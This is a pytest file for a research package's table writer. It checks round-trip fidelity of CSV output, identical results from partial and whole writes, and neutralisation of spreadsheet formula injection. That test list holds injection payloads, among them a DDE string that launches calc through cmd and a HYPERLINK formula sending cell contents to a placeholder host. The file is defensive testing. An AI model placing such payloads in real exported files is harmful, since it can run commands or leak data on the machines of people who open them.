"""Files of tables: parts make the whole, what is read is what was written, and a spreadsheet runs none of it."""

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import reward_ablation
from reward_ablation.analysis.tables import COUNT, NUMBER, TEXT, columns, write_rows, write_tables

RNG = np.random.default_rng(0)
ROWS = 2000
SIZES = 10.0 ** RNG.integers(-20, 25, ROWS)

COLUMNS = {
    "numbers of all sizes": RNG.normal(size=ROWS) * SIZES,
    "ends": RNG.choice([np.inf, -np.inf, 0.0, np.nan, 5e-324, 1e-4, 9.9999e-5, 1e6, 999999.9, 1e15, 1e16], ROWS),
    "with gaps": np.where(RNG.random(ROWS) < 0.1, np.nan, RNG.random(ROWS)),
    "counts": RNG.integers(-5, 5000, ROWS),
    "counts with gaps": pd.array(RNG.choice([1, 2, None], ROWS), dtype="Int64"),
    "flags": RNG.random(ROWS) < 0.5,
    "texts": pd.Series(RNG.choice(["one", "two, 2", 'with "quotes"', "new\nline", "return\rhere", "ä"], ROWS)),
    "texts with gaps": pd.Series(RNG.choice(np.array(["one", None], dtype=object), ROWS)),
}


def csv_of(frame: pd.DataFrame) -> bytes:
    file = io.BytesIO()
    write_rows(pa.Table.from_pandas(frame, preserve_index=False), file)
    return file.getvalue()


def test_what_is_read_is_what_was_written():
    frame = pd.DataFrame(COLUMNS | {"other": range(ROWS)})
    read = pd.read_csv(io.BytesIO(csv_of(frame)), lineterminator="\n")
    pd.testing.assert_frame_equal(read, frame, check_dtype=False, check_exact=True)


RUN_BY_SPREADSHEETS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://x.y/?"&A1,"a, b")', "\t=1", "\n=1", "  =1", "＝1",
    "-x", "-", "-1,a",
]  # fmt: skip
LEFT_AS_THEY_ARE = ["-1", "+1", "-.5", "-1e-05", "-1,234.5", "-5%", "-inf", "a = b", "'=1", "", " a", "x\n=1"]


@pytest.mark.parametrize("kind", ["str", object])
def test_a_spreadsheet_runs_no_cell(kind):
    texts = [*RUN_BY_SPREADSHEETS, *LEFT_AS_THEY_ARE]
    frame = pd.DataFrame({"@text": pd.Series(texts).astype(kind), "number": range(-2, len(texts) - 2)})
    header, *rows = csv.reader(io.StringIO(csv_of(frame).decode(), newline=""))
    assert header == ["'@text", "number"]
    assert [text for text, _ in rows] == [*(f"'{text}" for text in RUN_BY_SPREADSHEETS), *LEFT_AS_THEY_ARE]
    assert [int(number) for _, number in rows] == [*range(-2, len(texts) - 2)]


def test_no_csv_file_is_written_but_by_this_module():
    """Whatever writes CSV by another way would miss the apostrophes."""
    package = Path(reward_ablation.__file__).parent
    others = [path for path in package.rglob("*.py") if path.parts[-2:] != ("analysis", "tables.py")]
    writers = ("to_csv(", "csv.writer", "DictWriter", "pyarrow.csv")
    assert [path for path in others if any(word in path.read_text() for word in writers)] == []


SCHEMA = {"by_step": columns((TEXT, "arm"), (COUNT, "step"), (NUMBER, "value")), "none": columns((TEXT, "arm"))}


def test_parts_make_the_table_that_the_whole_makes(tmp_path):
    parts = [
        pd.DataFrame({"value": RNG.normal(size=ROWS), "arm": f"arm{number // 3}", "step": range(ROWS)})
        for number in range(8)
    ]
    write_tables([("by_step", rows) for rows in parts], SCHEMA, tmp_path / "parts")
    write_tables([("by_step", pd.concat(parts))], SCHEMA, tmp_path / "whole")
    for file in ("by_step.parquet", "by_step.csv", "none.parquet", "none.csv"):
        assert (tmp_path / "parts" / file).read_bytes() == (tmp_path / "whole" / file).read_bytes()
    assert list(pd.read_csv(tmp_path / "parts" / "by_step.csv")) == ["arm", "step", "value"]
    assert (tmp_path / "parts" / "none.csv").read_text() == '"arm"\n'
